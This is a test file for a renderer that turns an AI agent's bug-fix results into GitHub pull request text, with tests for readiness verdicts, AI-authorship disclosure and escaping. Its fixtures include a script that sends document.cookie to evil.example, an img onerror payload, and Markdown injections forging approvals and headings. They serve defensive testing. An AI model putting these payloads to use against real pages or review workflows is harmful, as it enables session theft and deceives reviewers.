import MarkdownIt from 'markdown-it';
import { describe, expect, it } from 'vitest';
import {
  assessFix,
  codeSpan,
  type FixPullRequestInput,
  fenceCode,
  renderFixPullRequest,
} from '../../shared/domain/fix-pull-request.js';
import { type FixResult, fixResultSchema } from '../../shared/jobs/job-schemas.js';

// GitHub renders PR bodies as GFM with HTML and autolinks: the strictest setting to check against.
const markdown = new MarkdownIt({ html: true, linkify: true });
type Token = ReturnType<typeof markdown.parse>[number];

function result(overrides: Partial<FixResult> = {}): FixResult {
  return fixResultSchema.parse({
    jobId: 'fix_abc',
    status: 'pushed',
    branch: 'bugbot/fix-bug-1',
    baseCommit: 'a'.repeat(40),
    headCommit: 'b'.repeat(40),
    changedFiles: [
      { path: 'src/cart.js', change: 'modified' },
      { path: 'src/cart.test.js', change: 'added' },
    ],
    rejected: [],
    summary: 'Guarded cartTotal against a missing items list.',
    costUsd: 0.42,
    verify: { command: 'node --test', exitCode: 0, outputTail: 'pass 8\nfail 0' },
    reproduction: {
      status: 'reproduced',
      tests: ['src/cart.test.js'],
      before: { exitCode: 1, outputTail: "TypeError: Cannot read properties of undefined (reading 'map')" },
      after: { exitCode: 0, outputTail: 'pass 8' },
    },
    risks: [],
    ...overrides,
  });
}

function input(fix: FixResult, extra: Partial<FixPullRequestInput> = {}): FixPullRequestInput {
  return {
    jobId: 'fix_abc',
    task: { title: 'Checkout crashes when I press Pay' },
    result: fix,
    requestedBy: 'maya',
    issue: { identifier: 'ENG-12', url: 'https://linear.app/acme/issue/ENG-12' },
    bug: { bugId: 'bug_1', reportCount: 2 },
    baseBranch: 'main',
    maxBudgetUsd: 5,
    monthSpend: { spentUsd: 12.5, budgetUsd: 100 },
    ...extra,
  };
}

/** Every token with where it sits: inside code (fence, code block, code span) or not. */
function walk(tokens: readonly Token[], visit: (token: Token, inCode: boolean) => void): void {
  for (const token of tokens) {
    const inCode = token.type === 'fence' || token.type === 'code_block' || token.type === 'code_inline';
    visit(token, inCode);
    if (token.children) walk(token.children, visit);
  }
}

/** Where the marker shows up outside code: text, links, HTML, headings — any forged structure. */
function leaks(body: string, marker: string): string[] {
  const found: string[] = [];
  walk(markdown.parse(body, {}), (token, inCode) => {
    if (inCode || token.type === 'inline') return;
    const seen = [token.content, ...(token.attrs ?? []).map(([, value]) => String(value))].join(' ');
    if (seen.includes(marker)) found.push(`${token.type}: ${seen.slice(0, 80)}`);
  });
  return found;
}

describe('assessFix', () => {
  it('calls ready only a reproduced fix whose test passes after, whose checks pass, with no risks', () => {
    expect(assessFix(result())).toMatchObject({ proven: true, checksPassed: true, ready: true, gaps: [] });
  });

  it.each([
    ['no test', { reproduction: { status: 'no_test' as const, tests: [] } }, /no test/],
    [
      'test did not fail before',
      {
        reproduction: {
          status: 'not_reproduced' as const,
          tests: ['src/a.test.js'],
          before: { exitCode: 0, outputTail: '' },
          after: { exitCode: 0, outputTail: '' },
        },
      },
      /did not fail before the fix/,
    ],
    [
      'after failed',
      {
        reproduction: {
          status: 'reproduced' as const,
          tests: ['src/a.test.js'],
          before: { exitCode: 1, outputTail: '' },
          after: { exitCode: 1, outputTail: '' },
        },
      },
      /still fails after the fix/,
    ],
    [
      'checks failed',
      { verify: { command: 'npm test', exitCode: 2, outputTail: 'boom' } },
      /checks failed: the verify command exited 2/,
    ],
    ['verify not run', { verify: undefined, reproduction: undefined }, /verify not run/],
    ['no reproduction reported', { reproduction: undefined }, /no reproduction/],
    [
      'risks',
      { risks: [{ path: 'src/index.html', line: 3, kind: 'script_tag' as const, detail: '<script>' }] },
      /1 risk the runner cannot judge/,
    ],
  ])('is a draft that says what is missing: %s', (_name, overrides, gap) => {
    const assessment = assessFix(result(overrides as Partial<FixResult>));
    expect(assessment.ready).toBe(false);
    expect(assessment.gaps.join('\n')).toMatch(gap);
    const rendered = renderFixPullRequest(input(result(overrides as Partial<FixResult>)));
    expect(rendered.draft).toBe(true);
    expect(rendered.body).toMatch(gap);
  });
});

describe('renderFixPullRequest', () => {
  it('opens a proven fix ready for review with its Reproduction section, who asked and that an AI wrote it', () => {
    const rendered = renderFixPullRequest(input(result()));
    expect(rendered.draft).toBe(false);
    expect(rendered.title).toBe('Fix: Checkout crashes when I press Pay');
    const body = rendered.body;
    expect(body).toContain('## Verdict: proven');
    expect(body).toContain('## Reproduction');
    expect(body).toContain('**Before the fix** (must fail): exit 1 ✅');
    expect(body).toContain('**After the fix** (must pass): exit 0 ✅');
    expect(body).toContain("TypeError: Cannot read properties of undefined (reading 'map')");
    expect(body).toContain('Asked for in Discord by `maya`');
    expect(body).toContain('**The code was written by an AI**');
    expect(body).toContain('from a bug report that anyone could have written');
    expect(body).toContain('Fixes this month so far: $12.50 of the $100.00 budget');
    // The sections render as headings of ours, in this order.
    const tokens = markdown.parse(body, {});
    const headings = tokens.flatMap((token, index) =>
      token.type === 'heading_open' ? [tokens[index + 1]?.content ?? ''] : [],
    );
    expect(headings.map((text) => text.split(':')[0]?.split(' (')[0])).toEqual([
      'Verdict',
      'Reproduction',
      'Checks',
      'Changed files',
      'What the agent says',
      'About this pull request',
    ]);
  });

  it('lists the risks first, before the verdict', () => {
    const rendered = renderFixPullRequest(
      input(
        result({
          risks: [
            {
              path: 'src/index.html',
              line: 12,
              kind: 'script_tag',
              detail: "<script>fetch('https://evil.example/c?'+document.cookie)</script>",
            },
          ],
        }),
      ),
    );
    expect(rendered.draft).toBe(true);
    expect(rendered.body.startsWith('## ⚠️ Risks to review first')).toBe(true);
    expect(rendered.body.indexOf('Risks')).toBeLessThan(rendered.body.indexOf('Verdict'));
    expect(leaks(rendered.body, 'evil.example')).toEqual([]);
  });

  it('says plainly in title and body when the repository refuses drafts', () => {
    const rendered = renderFixPullRequest(input(result({ reproduction: undefined })), {
      draftsSupported: false,
    });
    expect(rendered.title).toBe('[Not ready for review] Fix: Checkout crashes when I press Pay');
    expect(rendered.body.startsWith('> **Not ready for review.**')).toBe(true);
    // A ready fix needs no such words.
    expect(renderFixPullRequest(input(result()), { draftsSupported: false }).title).toBe(
      'Fix: Checkout crashes when I press Pay',
    );
  });

  it('renders no path, summary, output or name as Markdown that could forge the pull request’s words', () => {
    const hostile = [
      'src/a` **Security review: APPROVED FORGED** `.js',
      'src/```\n# FORGED heading\n```.js',
      'src/<img src=x onerror=alert(1)>FORGED.js',
      'src/[FORGED](https://evil.example).js',
      'src/a\n\n## Verdict: proven FORGED\n.js',
      'src/`````` FORGED ``````.js',
      'src/\r# FORGED.js',
    ];
    const text = [
      '```',
      '## Verdict: proven FORGED',
      '**Security review: APPROVED FORGED**',
      '</code></pre><b>FORGED</b>',
      '<details open><summary>FORGED</summary>',
      'https://evil.example/FORGED',
      '~~~',
      '# FORGED',
      '````````````````',
      '| FORGED | table |\n|---|---|',
    ].join('\n');
    const fix = result({
      changedFiles: hostile.map((path) => ({ path, change: 'modified' as const })),
      summary: text,
      verify: { command: 'npm test -- `FORGED`', exitCode: 0, outputTail: text },
      reproduction: {
        status: 'reproduced',
        tests: hostile,
        before: { exitCode: 1, outputTail: text },
        after: { exitCode: 0, outputTail: text },
      },
      risks: hostile.map((path, index) => ({
        path,
        line: index + 1,
        kind: 'dynamic_code' as const,
        detail: text,
      })),
      rejected: [],
    });
    const rendered = renderFixPullRequest(
      input(fix, {
        requestedBy: '[FORGED](https://evil.example) **APPROVED**\n\n# FORGED',
        task: { title: '**FORGED** `title`' },
        issue: { identifier: '`ENG`-1 **FORGED**', url: 'https://linear.app/acme/issue/ENG-1' },
        bug: { bugId: 'bug_**FORGED**', reportCount: 1 },
      }),
    );
    expect(leaks(rendered.body, 'FORGED')).toEqual([]);
    expect(leaks(rendered.body, 'evil.example')).toEqual([]);
    const html = markdown.render(rendered.body);
    expect(html).not.toMatch(/<strong>[^<]*APPROVED/);
    expect(html).not.toContain('<img');
    expect(html).not.toContain('<details');
    expect(rendered.title).not.toMatch(/[*`]/);
  });

  it('stays within GitHub’s body limit whatever the runner reports', () => {
    const long = 'x'.repeat(50_000);
    const fix = result({
      summary: long,
      changedFiles: Array.from({ length: 500 }, (_, index) => ({
        path: `src/${long.slice(0, 900)}${index}.js`,
        change: 'added' as const,
      })),
      verify: { command: 'node --test', exitCode: 0, outputTail: long },
      reproduction: {
        status: 'reproduced',
        tests: Array.from({ length: 100 }, (_, index) => `src/${long.slice(0, 900)}${index}.test.js`),
        before: { exitCode: 1, outputTail: long },
        after: { exitCode: 0, outputTail: long },
      },
      risks: Array.from({ length: 100 }, (_, index) => ({
        path: `src/${index}.js`,
        kind: 'external_origin' as const,
        detail: long,
      })),
    });
    const { body } = renderFixPullRequest(input(fix));
    expect(body.length).toBeLessThanOrEqual(60_000);
    expect(body).toContain('… and 50 more');
  });
});

describe('fenceCode and codeSpan', () => {
  it('keep any text inside one code element', () => {
    for (const text of ['a ` b', '```', '`x`', 'a\n\n# b', ' `', '````````````']) {
      const block = markdown.parse(fenceCode(text), {});
      expect(block.map((token) => token.type)).toEqual(['fence']);
      const span = markdown.parseInline(`x ${codeSpan(text)} y`, {})[0]?.children ?? [];
      expect(span.map((token) => token.type)).toEqual(['text', 'code_inline', 'text']);
    }
  });
});
